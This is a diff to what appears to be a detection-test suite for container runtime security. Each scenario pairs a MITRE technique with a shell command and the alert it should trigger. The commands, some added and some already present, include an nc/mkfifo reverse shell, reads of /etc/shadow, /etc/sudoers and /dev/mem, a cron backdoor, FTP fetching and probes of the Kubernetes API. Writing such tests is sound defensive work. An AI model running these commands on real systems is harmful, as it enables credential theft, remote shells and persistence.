@@ -95,6 +95,10 @@ export const ATTACKS: readonly Scenario[] = [
     cmd: "arping -c 1 -w 1 -I eth0 $HOST >/dev/null 2>&1; true" },
   { name: "symlink the shadow file", technique: "T1555", pod: "web", expect: "Symlink To Sensitive File Created", cmd: "ln -sf /etc/shadow /tmp/s" },
   { name: "hard link the shadow file", technique: "T1555", pod: "web", expect: "Hardlink To Sensitive File Created", cmd: "[ -f /etc/shadow ] || echo 'root:*:19000:0:99999:7:::' > /etc/shadow; ln -f /etc/shadow /tmp/h" },
+  { name: "read the sudoers policy", technique: "T1552", pod: "web", expect: "Read Sudoers Or PAM Configuration",
+    cmd: "[ -f /etc/sudoers ] || echo 'root ALL=(ALL) ALL' > /etc/sudoers; /bin/cat /etc/sudoers >/dev/null" },
+  { name: "open /dev/mem", technique: "T1003", pod: "priv", expect: "Kernel Memory Opened",
+    cmd: "[ -e /dev/mem ] || /applets/mknod /dev/mem c 1 1; /bin/head -c 1 /dev/mem >/dev/null 2>&1; true" },
   // ---------------------------------------------------------------- execution
   { name: "command injection through a CGI spawns a shell", technique: "T1190", pod: "web", expect: "Shell Spawned By Server Process",
     cmd: `${HTTPD} && ${CGI_SHELL} && wget -q -O- http://127.0.0.1:18081/cgi-bin/status` },
@@ -106,6 +110,11 @@ export const ATTACKS: readonly Scenario[] = [
     cmd: "rm -f /tmp/f; mkfifo /tmp/f; nc $HOST 4444 </tmp/f | sh >/tmp/f 2>&1; rm -f /tmp/f" },
   { name: "container runtime client in a pod", technique: "T1609", pod: "web", expect: "Container Administration Tool Run In Container",
     cmd: `${T}/ctr unixconnect /run/containerd/containerd.sock; true` },
+  { name: "install a package at run time", technique: "T1072", pod: "web", expect: "Package Manager Run In Container",
+    cmd: "/applets/dpkg -i /tmp/tools.deb 2>/dev/null; true" },
+  { name: "fetch a file over FTP", technique: "T1105", pod: "web", expect: "Remote File Copy Tool Run In Container",
+    cmd: "/applets/ftpget $HOST /tmp/x payload 2>/dev/null; true" },
+  { name: "run telnet", technique: "T1095", pod: "web", expect: "Network Tool Run In Container", cmd: "/applets/telnet $HOST 22 </dev/null 2>/dev/null; true" },
   // ---------------------------------------------------------------- persistence
   { name: "drop a cron job", technique: "T1053.003", pod: "web", expect: "Cron Job Written",
     cmd: "mkdir -p /etc/cron.d && echo '* * * * * root /tmp/x' > /etc/cron.d/backdoor" },
@@ -180,6 +189,9 @@ export const ATTACKS: readonly Scenario[] = [
   { name: "search for setuid binaries", technique: "T1083", pod: "web", expect: "Setuid Binary Search", cmd: "/applets/find / -xdev -perm -4000 -type f 2>/dev/null; true" },
   { name: "run linpeas", technique: "T1082", pod: "web", expect: "Enumeration Script Run",
     cmd: "printf 'id; uname -a; cat /proc/1/cgroup\\n' > /tmp/linpeas.sh && sh /tmp/linpeas.sh >/dev/null" },
+  { name: "poke the Kubernetes API with nc", technique: "T1613", pod: "web", expect: "Kubernetes API Server Contacted By Shell Tool",
+    cmd: "nc -w 1 10.96.0.1 443 </dev/null 2>/dev/null; true" },
+  { name: "hide a file in /dev", technique: "T1564.001", pod: "web", expect: "File Created Below /dev", cmd: "echo x > /dev/.cache; rm -f /dev/.cache" },
   // ---------------------------------------------------------------- lateral movement and C2
   { name: "reverse shell: socket dup2'd onto stdio", technique: "T1059.004", pod: "web", expect: "Reverse Shell Socket Redirected To Standard Streams",
     cmd: `${T}/vigil-attack revshell $HOST 4444` },
